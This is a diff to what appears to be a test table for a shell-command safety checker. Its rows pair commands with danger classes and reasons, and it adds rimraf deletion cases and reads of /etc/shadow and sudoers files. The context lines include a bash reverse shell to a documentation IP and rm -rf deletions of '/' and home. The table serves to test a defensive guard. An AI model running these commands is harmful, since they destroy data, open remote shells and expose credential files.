@@ -49,6 +49,9 @@ const Row k_runners[] = {
     {"npx cross-env NODE_ENV=prod rm -rf /", B, "deletion"}, {"npx cross-env NODE_ENV=test jest", A},
     {"npx shx rm -rf ~", B, "home folder"},                  {"npx shx rm -rf dist", C},
     {"nix shell nixpkgs#hello -c rm -rf ~", B, "home folder"}, {"nix shell nixpkgs#jq -c jq . a.json", A},
+    {"yarn rimraf /", B, "deletion of '/'"},                 {"yarn build", A},
+    {"bun run rimraf ~", B, "home folder"},                   {"pnpm rimraf dist", C},
+    {"pnpm exec rimraf /", B, "deletion of '/'"},             {"pnpm exec vitest", A},
     {"npx some-scaffolder --init", A, "unknown program: its effects are unknown"},
     {"npx \"$PKG\" /", B, "only known at run time"},
     // job runners and multiplexers: what they run is judged, or they say why not
@@ -188,6 +191,8 @@ const Row k_elsewhere[] = {
     {"echo hi > /dev/tcp/example.com/80", C, "network"},
     {"bash -i >& /dev/tcp/203.0.113.1/4444 0>&1", B, "connects a shell to the network"},
     {"aws s3 cp s3://bucket/x.txt /etc/x", B, "outside the root"},
+    {"cat /etc/shadow", B, "system's secret file"},          {"cat /etc/passwd", A},
+    {"sudo cat /etc/sudoers.d/admins", B, "system's secret file"}, {"ls -la /etc/shadow", A},
 };
 
 const Row k_families[] = {
